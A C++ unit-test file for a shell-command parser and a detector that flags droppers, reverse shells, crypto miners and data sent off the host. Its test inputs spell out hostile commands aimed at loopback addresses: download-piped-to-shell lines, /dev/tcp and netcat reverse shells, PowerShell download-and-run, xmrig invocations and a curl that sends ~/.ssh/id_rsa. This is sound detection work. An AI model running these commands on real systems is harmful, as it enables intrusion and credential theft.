// The shell reader and its judge (src/signals/shell.h): a command line split as sh splits it,
// and judged for what a dropper, a reverse shell or a miner writes. Every address here is
// loopback: the lines are only parsed, but the tree's address guard holds for tests too.
#include "signals/shell.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace batlehub::signals {

// How gtest prints a finding when a comparison fails (found by ADL, so beside the type).
inline void PrintTo(const ShellFinding& f, std::ostream* os) {
  *os << shell_signal_name(f.what) << ": " << f.detail;
}

namespace {

using Argv = std::vector<std::string>;

// A Monero-like wallet: 95 characters from a leading 4.
const std::string kWallet = "4" + std::string(94, 'A');

std::vector<Argv> argvs(const Script& s) {
  std::vector<Argv> out;
  for (const Pipeline& p : s.pipelines) {
    for (const Command& c : p.commands) out.push_back(c.argv);
  }
  return out;
}

std::vector<ShellFinding> judge(std::string_view line) {
  return judge_shell(parse_shell(line));
}

ShellFinding finding(ShellSignal what, std::string detail) {
  return ShellFinding{what, std::move(detail)};
}

// --- parse_shell ------------------------------------------------------------------------

TEST(Shell, words_are_split_on_blanks_and_joined_by_quotes_and_backslashes) {
  const Script s = parse_shell("echo 'a b' \"c d\" e\\ f g'h'\"i\" '' \"\\\"q\\\"\"");
  ASSERT_EQ(s.pipelines.size(), 1u);
  EXPECT_EQ(argvs(s), (std::vector<Argv>{{"echo", "a b", "c d", "e f", "ghi", "", "\"q\""}}));
}

TEST(Shell, single_quotes_keep_everything_as_written) {
  const Script s = parse_shell("printf '%s $(id) `id` \\n | ; &&'");
  EXPECT_EQ(argvs(s), (std::vector<Argv>{{"printf", "%s $(id) `id` \\n | ; &&"}}));
  EXPECT_TRUE(s.substitutions.empty());
}

TEST(Shell, control_operators_and_newlines_separate_pipelines_and_a_bar_separates_commands) {
  const Script s = parse_shell("a && b || c ; d | e | f & g\nh");
  ASSERT_EQ(s.pipelines.size(), 6u);
  EXPECT_EQ(s.pipelines[0].commands.size(), 1u);
  EXPECT_EQ(s.pipelines[3].commands.size(), 3u);  // d | e | f
  EXPECT_EQ(argvs(s), (std::vector<Argv>{{"a"}, {"b"}, {"c"}, {"d"}, {"e"}, {"f"}, {"g"}, {"h"}}));
}

TEST(Shell, operators_need_no_blanks_around_them) {
  const Script s = parse_shell("a&&b||c;d|e");
  ASSERT_EQ(s.pipelines.size(), 4u);
  EXPECT_EQ(argvs(s), (std::vector<Argv>{{"a"}, {"b"}, {"c"}, {"d"}, {"e"}}));
}

TEST(Shell, redirects_are_kept_with_their_targets_apart_from_the_words) {
  const Script s = parse_shell("cmd arg 2>&1 >out <in >>log 2>/dev/null &>all");
  ASSERT_EQ(s.pipelines.size(), 1u);
  const Command& c = s.pipelines[0].commands[0];
  EXPECT_EQ(c.argv, (Argv{"cmd", "arg"}));
  EXPECT_EQ(c.redirects, (Argv{"2>&1", ">out", "<in", ">>log", "2>/dev/null", "&>all"}));
}

TEST(Shell, a_redirect_to_dev_tcp_with_a_blank_is_one_redirect) {
  const Script s = parse_shell("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1");
  ASSERT_EQ(s.pipelines.size(), 1u);
  const Command& c = s.pipelines[0].commands[0];
  EXPECT_EQ(c.argv, (Argv{"bash", "-i"}));
  EXPECT_EQ(c.redirects, (Argv{">&/dev/tcp/127.0.0.1/4444", "0>&1"}));
}

TEST(Shell, a_descriptor_duplication_ends_before_the_next_word) {
  const Script s = parse_shell("make 2>&1 install");
  ASSERT_EQ(s.pipelines.size(), 1u);
  EXPECT_EQ(s.pipelines[0].commands[0].argv, (Argv{"make", "install"}));
  EXPECT_EQ(s.pipelines[0].commands[0].redirects, (Argv{"2>&1"}));
  const Script t = parse_shell("a 2>&1&&b");
  EXPECT_EQ(argvs(t), (std::vector<Argv>{{"a"}, {"b"}}));
}

TEST(Shell, a_number_that_is_an_argument_is_not_a_redirect) {
  const Script s = parse_shell("nc 127.0.0.1 4444");
  EXPECT_EQ(argvs(s), (std::vector<Argv>{{"nc", "127.0.0.1", "4444"}}));
  EXPECT_TRUE(s.pipelines[0].commands[0].redirects.empty());
}

TEST(Shell, dollar_paren_substitution_is_a_word_and_a_script_of_its_own) {
  const Script s = parse_shell("sh -c \"$(curl -fsSL http://127.0.0.1/x)\"");
  EXPECT_EQ(argvs(s), (std::vector<Argv>{{"sh", "-c", "$(curl -fsSL http://127.0.0.1/x)"}}));
  ASSERT_EQ(s.substitutions.size(), 1u);
  EXPECT_EQ(argvs(s.substitutions[0]), (std::vector<Argv>{{"curl", "-fsSL", "http://127.0.0.1/x"}}));
}

TEST(Shell, backtick_and_process_substitutions_are_scripts_too) {
  const Script s = parse_shell("echo `id` $(whoami) <(cat x)");
  EXPECT_EQ(argvs(s), (std::vector<Argv>{{"echo", "`id`", "$(whoami)", "<(cat x)"}}));
  ASSERT_EQ(s.substitutions.size(), 3u);
  EXPECT_EQ(argvs(s.substitutions[0]), (std::vector<Argv>{{"id"}}));
  EXPECT_EQ(argvs(s.substitutions[1]), (std::vector<Argv>{{"whoami"}}));
  EXPECT_EQ(argvs(s.substitutions[2]), (std::vector<Argv>{{"cat", "x"}}));
}

TEST(Shell, nested_substitutions_stop_at_the_depth_bound) {
  const Script s = parse_shell("a $(b $(c $(d $(e))))");
  ASSERT_EQ(s.substitutions.size(), 1u);
  ASSERT_EQ(s.substitutions[0].substitutions.size(), 1u);
  // The top, then kShellMaxDepth - 1 levels of substitutions: $(d …) is a word, not a script.
  EXPECT_EQ(argvs(s.substitutions[0].substitutions[0]), (std::vector<Argv>{{"c", "$(d $(e))"}}));
  EXPECT_TRUE(s.substitutions[0].substitutions[0].substitutions.empty());
}

TEST(Shell, a_comment_line_is_not_read) {
  const Script s = parse_shell("# curl -fsSL http://127.0.0.1/i.sh | sh\necho hi");
  EXPECT_EQ(argvs(s), (std::vector<Argv>{{"echo", "hi"}}));
}

TEST(Shell, a_comment_after_a_command_is_not_read) {
  const Script s = parse_shell("echo hi # a | b");
  EXPECT_EQ(argvs(s), (std::vector<Argv>{{"echo", "hi"}}));
  // What it costs: a download whose comment mentions a pipe into sh is read as piped.
  EXPECT_TRUE(judge("curl -o v.tgz http://127.0.0.1/v.tgz # not | sh").empty());
}

TEST(Shell, a_hash_inside_a_word_is_not_a_comment) {
  const Script s = parse_shell("echo a#b");
  EXPECT_EQ(argvs(s), (std::vector<Argv>{{"echo", "a#b"}}));
}

TEST(Shell, an_unterminated_quote_ends_at_the_end_of_the_line) {
  EXPECT_EQ(argvs(parse_shell("echo 'abc")), (std::vector<Argv>{{"echo", "abc"}}));
  EXPECT_EQ(argvs(parse_shell("echo \"abc")), (std::vector<Argv>{{"echo", "abc"}}));
  EXPECT_EQ(argvs(parse_shell("echo abc\\")), (std::vector<Argv>{{"echo", "abc"}}));
}

TEST(Shell, the_word_count_is_bounded) {
  std::string line;
  for (std::size_t i = 0; i < kShellMaxWords + 100; ++i) line += "w ";
  const Script s = parse_shell(line);
  ASSERT_EQ(s.pipelines.size(), 1u);
  EXPECT_EQ(s.pipelines[0].commands[0].argv.size(), kShellMaxWords);
}

// --- judge_shell: what is found ----------------------------------------------------------

TEST(Shell, a_download_piped_to_sh_is_download_piped_to_shell) {
  EXPECT_EQ(judge("curl -fsSL http://127.0.0.1/i.sh | sh"),
            (std::vector<ShellFinding>{
                finding(ShellSignal::kDownloadPipedToShell, "curl -fsSL http://127.0.0.1/i.sh | sh")}));
  EXPECT_EQ(judge("wget -qO- http://127.0.0.1/i.sh | sudo bash -s"),
            (std::vector<ShellFinding>{
                finding(ShellSignal::kDownloadPipedToShell, "wget -qO- http://127.0.0.1/i.sh | sudo bash -s")}));
}

TEST(Shell, a_program_started_under_nohup_with_its_output_thrown_away_is_let_go) {
  // commander-js 2.19.84's postinstall (npm malware, tuning half), its assignment prefix kept.
  EXPECT_EQ(judge("BUILD_ID=.temp-build nohup node update.js >/dev/null 2>&1 &"),
            (std::vector<ShellFinding>{
                finding(ShellSignal::kStartedDetached, "BUILD_ID=.temp-build nohup node update.js >/dev/null 2>&1")}));
  EXPECT_EQ(judge("setsid ./agent > /dev/null &"),
            (std::vector<ShellFinding>{finding(ShellSignal::kStartedDetached, "setsid ./agent >/dev/null")}));
  // Output kept, or only the errors thrown away: a service someone watches.
  EXPECT_TRUE(judge("nohup node server.js > server.log 2>&1 &").empty());
  EXPECT_TRUE(judge("nohup node server.js 2>/dev/null &").empty());
  // /dev/null without nohup or setsid: a quiet command, not one let go.
  EXPECT_TRUE(judge("node-gyp rebuild >/dev/null 2>&1 || true").empty());
}

TEST(Shell, curl_to_a_unix_socket_sends_nothing_off_the_host) {
  // moto 5.2.6's settings.py asks Docker's socket about its own container.
  EXPECT_TRUE(judge("curl -s --unix-socket /run/docker.sock http://docker/containers/$HOSTNAME/json").empty());
  EXPECT_EQ(
      judge("curl -s http://127.0.0.1/c/$HOSTNAME"),
      (std::vector<ShellFinding>{finding(ShellSignal::kCollectedAndSent, "curl -s http://127.0.0.1/c/$HOSTNAME")}));
}

TEST(Shell, an_assignment_before_a_command_is_its_environment_not_the_command) {
  EXPECT_EQ(judge("X=1 curl -fsSL http://127.0.0.1/i.sh | sh"),
            (std::vector<ShellFinding>{
                finding(ShellSignal::kDownloadPipedToShell, "X=1 curl -fsSL http://127.0.0.1/i.sh | sh")}));
}

TEST(Shell, a_download_made_executable_and_run_is_a_dropper) {
  // Both the chmod and the run show it; each is its own evidence.
  EXPECT_EQ(judge("wget http://127.0.0.1/x -O /tmp/x && chmod +x /tmp/x && /tmp/x"),
            (std::vector<ShellFinding>{
                finding(ShellSignal::kDownloadExecuted, "wget http://127.0.0.1/x -O /tmp/x; chmod +x /tmp/x"),
                finding(ShellSignal::kDownloadExecuted, "wget http://127.0.0.1/x -O /tmp/x; /tmp/x")}));
}

TEST(Shell, a_download_by_its_remote_name_then_run_by_an_interpreter_is_a_dropper) {
  EXPECT_EQ(judge("curl -O http://127.0.0.1/p/setup.py; python3 setup.py"),
            (std::vector<ShellFinding>{
                finding(ShellSignal::kDownloadExecuted, "curl -O http://127.0.0.1/p/setup.py; python3 setup.py")}));
  EXPECT_EQ(judge("wget http://127.0.0.1/a/run.sh?x=1; sh run.sh"),
            (std::vector<ShellFinding>{
                finding(ShellSignal::kDownloadExecuted, "wget http://127.0.0.1/a/run.sh?x=1; sh run.sh")}));
}

TEST(Shell, a_download_chmod_ed_with_an_octal_mode_is_a_dropper) {
  EXPECT_EQ(judge("curl -o /tmp/m http://127.0.0.1/m; chmod 755 /tmp/m"),
            (std::vector<ShellFinding>{
                finding(ShellSignal::kDownloadExecuted, "curl -o /tmp/m http://127.0.0.1/m; chmod 755 /tmp/m")}));
  EXPECT_TRUE(judge("curl -o /tmp/m http://127.0.0.1/m; chmod 644 /tmp/m").empty());
}

TEST(Shell, a_download_chmod_ed_with_a_symbolic_mode_naming_x_among_others_is_a_dropper) {
  EXPECT_EQ(judge("wget http://127.0.0.1/x -O /tmp/x && chmod a+rx /tmp/x"),
            (std::vector<ShellFinding>{
                finding(ShellSignal::kDownloadExecuted, "wget http://127.0.0.1/x -O /tmp/x; chmod a+rx /tmp/x")}));
}

TEST(Shell, a_download_redirected_to_a_file_then_run_is_a_dropper) {
  EXPECT_FALSE(judge("curl http://127.0.0.1/x > /tmp/x && chmod +x /tmp/x && /tmp/x").empty());
}

TEST(Shell, a_bash_whose_streams_are_dev_tcp_is_a_reverse_shell) {
  EXPECT_EQ(judge("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"),
            (std::vector<ShellFinding>{finding(ShellSignal::kReverseShell, "bash -i >&/dev/tcp/127.0.0.1/4444 0>&1")}));
  EXPECT_EQ(judge("sh -i 5<> /dev/udp/127.0.0.1/53"),
            (std::vector<ShellFinding>{finding(ShellSignal::kReverseShell, "sh -i 5<>/dev/udp/127.0.0.1/53")}));
}

TEST(Shell, netcat_with_e_is_a_reverse_shell) {
  EXPECT_EQ(judge("nc -e /bin/sh 127.0.0.1 4444"),
            (std::vector<ShellFinding>{finding(ShellSignal::kReverseShell, "nc -e /bin/sh 127.0.0.1 4444")}));
  EXPECT_EQ(judge("ncat 127.0.0.1 4444 --sh-exec 'cat'"),
            (std::vector<ShellFinding>{finding(ShellSignal::kReverseShell, "ncat 127.0.0.1 4444 --sh-exec cat")}));
}

TEST(Shell, netcat_with_e_after_a_descriptor_duplication_is_a_reverse_shell) {
  EXPECT_EQ(judge("nc 127.0.0.1 4444 2>&1 -e /bin/sh"),
            (std::vector<ShellFinding>{finding(ShellSignal::kReverseShell, "nc 127.0.0.1 4444 -e /bin/sh 2>&1")}));
}

TEST(Shell, a_fifo_into_sh_and_netcat_is_a_reverse_shell) {
  EXPECT_EQ(judge("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 127.0.0.1 4444 >/tmp/f"),
            (std::vector<ShellFinding>{finding(ShellSignal::kReverseShell, "mkfifo, then nc 127.0.0.1 4444 >/tmp/f")}));
}

TEST(Shell, socat_exec_over_tcp_and_telnet_into_a_shell_are_reverse_shells) {
  EXPECT_EQ(judge("socat TCP:127.0.0.1:4444 EXEC:/bin/sh"),
            (std::vector<ShellFinding>{finding(ShellSignal::kReverseShell, "socat TCP:127.0.0.1:4444 EXEC:/bin/sh")}));
  EXPECT_EQ(judge("telnet 127.0.0.1 4444 | /bin/bash | telnet 127.0.0.1 4445"),
            (std::vector<ShellFinding>{finding(ShellSignal::kReverseShell, "telnet 127.0.0.1 4444 | /bin/bash")}));
}

TEST(Shell, xmrig_pointed_at_a_stratum_pool_with_a_wallet_is_a_miner) {
  const std::string line = "./xmrig -o stratum+tcp://127.0.0.1:3333 -u " + kWallet + " --donate-level 1";
  EXPECT_EQ(judge(line), (std::vector<ShellFinding>{finding(ShellSignal::kMiner, line)}));
}

TEST(Shell, each_sign_of_a_miner_alone_is_a_miner) {
  EXPECT_EQ(judge("run -o stratum+ssl://127.0.0.1:443").size(), 1u);   // the pool
  EXPECT_EQ(judge("run --donate-level=0").size(), 1u);                 // xmrig's own flag
  EXPECT_EQ(judge("run --user " + kWallet).size(), 1u);                // a wallet as user
  EXPECT_EQ(judge("run -u 0x" + std::string(40, 'a')).size(), 1u);     // an Ethereum wallet
  EXPECT_EQ(judge("/opt/cpuminer-opt -o 127.0.0.1:3333").size(), 1u);  // a miner's name and a pool
  EXPECT_TRUE(judge("run -u admin").empty());
  EXPECT_TRUE(judge("xmrig --version").empty());
}

TEST(Shell, sh_of_a_substituted_download_is_download_piped_to_shell) {
  EXPECT_EQ(judge("sh -c \"$(curl -fsSL http://127.0.0.1/x)\""),
            (std::vector<ShellFinding>{
                finding(ShellSignal::kDownloadPipedToShell, "sh -c $(curl -fsSL http://127.0.0.1/x)")}));
  EXPECT_EQ(
      judge("bash <(wget -qO- http://127.0.0.1/x)"),
      (std::vector<ShellFinding>{finding(ShellSignal::kDownloadPipedToShell, "bash <(wget -qO- http://127.0.0.1/x)")}));
}

TEST(Shell, powershell_iex_of_downloadstring_is_download_piped_to_shell) {
  const std::string line =
      "powershell -NoProfile -Command \"IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/a.ps1')\"";
  EXPECT_EQ(judge(line),
            (std::vector<ShellFinding>{finding(ShellSignal::kDownloadPipedToShell,
                                               "powershell -NoProfile -Command IEX (New-Object "
                                               "Net.WebClient).DownloadString('http://127.0.0.1/a.ps1')")}));
}

TEST(Shell, powershell_downloadfile_then_start_process_is_a_dropper) {
  const std::string line =
      "powershell -c \"(New-Object Net.WebClient).DownloadFile('http://127.0.0.1/a.exe','a.exe'); Start-Process "
      "a.exe\"";
  const auto found = judge(line);
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].what, ShellSignal::kDownloadExecuted);
}

TEST(Shell, a_wrapper_such_as_nohup_or_env_is_looked_through) {
  EXPECT_EQ(judge("curl -s http://127.0.0.1/i | nohup env A=1 sh").size(), 1u);
  EXPECT_EQ(judge("sudo -E nc -e /bin/sh 127.0.0.1 4444").size(), 1u);
}

TEST(Shell, a_finding_s_detail_is_shortened_to_160_bytes) {
  const std::string line = "nc -e /bin/sh 127.0.0.1 4444 " + std::string(300, 'x');
  const auto found = judge(line);
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].detail, line.substr(0, 160) + "…");
}

TEST(Shell, a_collector_s_output_in_a_sender_s_arguments_is_collected_and_sent) {
  EXPECT_EQ(judge("curl http://127.0.0.1/c?h=$(hostname)"),
            (std::vector<ShellFinding>{
                finding(ShellSignal::kCollectedAndSent, "hostname; curl http://127.0.0.1/c?h=$(hostname)")}));
  EXPECT_EQ(
      judge("nslookup $(whoami).localhost"),
      (std::vector<ShellFinding>{finding(ShellSignal::kCollectedAndSent, "whoami; nslookup $(whoami).localhost")}));
  EXPECT_EQ(judge("curl -d \"$(cat ~/.ssh/id_rsa)\" http://127.0.0.1/k"),
            (std::vector<ShellFinding>{finding(ShellSignal::kCollectedAndSent,
                                               "cat ~/.ssh/id_rsa; curl -d $(cat ~/.ssh/id_rsa) http://127.0.0.1/k")}));
}

TEST(Shell, a_collector_piped_into_a_sender_is_collected_and_sent) {
  EXPECT_EQ(
      judge("hostname | curl -d @- http://127.0.0.1/c"),
      (std::vector<ShellFinding>{finding(ShellSignal::kCollectedAndSent, "hostname | curl -d @- http://127.0.0.1/c")}));
}

TEST(Shell, the_user_s_name_in_a_sender_s_arguments_is_collected_and_sent) {
  EXPECT_EQ(judge("ping -c1 $USER.localhost"),
            (std::vector<ShellFinding>{finding(ShellSignal::kCollectedAndSent, "ping -c1 $USER.localhost")}));
}

TEST(Shell, a_variable_that_is_not_collected_is_not_collected_and_sent) {
  EXPECT_TRUE(judge("curl -H \"Authorization: token $TOKEN\" http://127.0.0.1/api").empty());
  EXPECT_TRUE(judge("whoami; id; hostname").empty());  // collected, never sent
}

TEST(Shell, the_platform_in_a_download_url_is_not_collected_and_sent) {
  EXPECT_TRUE(
      judge("curl -L \"http://127.0.0.1/compose-$(uname -s)-$(uname -m)\" -o /usr/local/bin/docker-compose").empty());
  EXPECT_TRUE(judge("wget -P $(pwd) http://127.0.0.1/x.tgz").empty());
}

// --- judge_shell: what is not ------------------------------------------------------------

TEST(Shell, benign_build_lines_give_nothing) {
  for (const char* line : {
           "curl -o out.json http://127.0.0.1/api",
           "chmod +x build.sh && ./build.sh",
           "pip install -e .",
           "node-gyp rebuild",
           "prebuild-install || node-gyp rebuild",
           "git clone x && cd x && make",
           "curl -fsSL http://127.0.0.1/a.tgz | tar xz",
           "wget http://127.0.0.1/data.tar.gz && tar xzf data.tar.gz",
           "node scripts/postinstall.js",
           "echo installing; exit 0",
       }) {
    EXPECT_TRUE(judge(line).empty()) << line;
  }
}

TEST(Shell, a_download_that_is_only_read_is_not_run) {
  EXPECT_TRUE(judge("curl -o /tmp/x.json http://127.0.0.1/x.json && cat /tmp/x.json").empty());
  EXPECT_TRUE(judge("wget -O - http://127.0.0.1/x | grep version").empty());
}

TEST(Shell, mentions_shell_is_the_cheap_test_for_a_command_line) {
  EXPECT_TRUE(mentions_shell("curl http://127.0.0.1/x"));
  EXPECT_TRUE(mentions_shell("XMRIG -o"));
  EXPECT_TRUE(mentions_shell("bash -i >& /dev/tcp/127.0.0.1/1"));
  EXPECT_TRUE(mentions_shell("nslookup x.localhost"));
  EXPECT_FALSE(mentions_shell("node-gyp rebuild"));
  EXPECT_FALSE(mentions_shell("hello world"));
}

TEST(Shell, signal_names_are_those_a_fact_says) {
  EXPECT_EQ(shell_signal_name(ShellSignal::kDownloadExecuted), "download-executed");
  EXPECT_EQ(shell_signal_name(ShellSignal::kDownloadPipedToShell), "download-piped-to-shell");
  EXPECT_EQ(shell_signal_name(ShellSignal::kReverseShell), "reverse-shell");
  EXPECT_EQ(shell_signal_name(ShellSignal::kMiner), "miner");
  EXPECT_EQ(shell_signal_name(ShellSignal::kCollectedAndSent), "collected-and-sent");
}

}  // namespace
}  // namespace batlehub::signals

namespace batlehub::signals {
namespace {

// Found by fuzz_signals: a download whose redirect names no file ("curl URL >" at the end
// of a line) is no output, not an out-of-range read.
TEST(Shell, a_redirect_with_no_target_after_a_download_names_no_file) {
  EXPECT_TRUE(judge_shell(parse_shell("curl http://127.0.0.1/x >")).empty());
  EXPECT_TRUE(judge_shell(parse_shell("curl http://127.0.0.1/x >> && chmod +x x")).empty());
}

}  // namespace
}  // namespace batlehub::signals
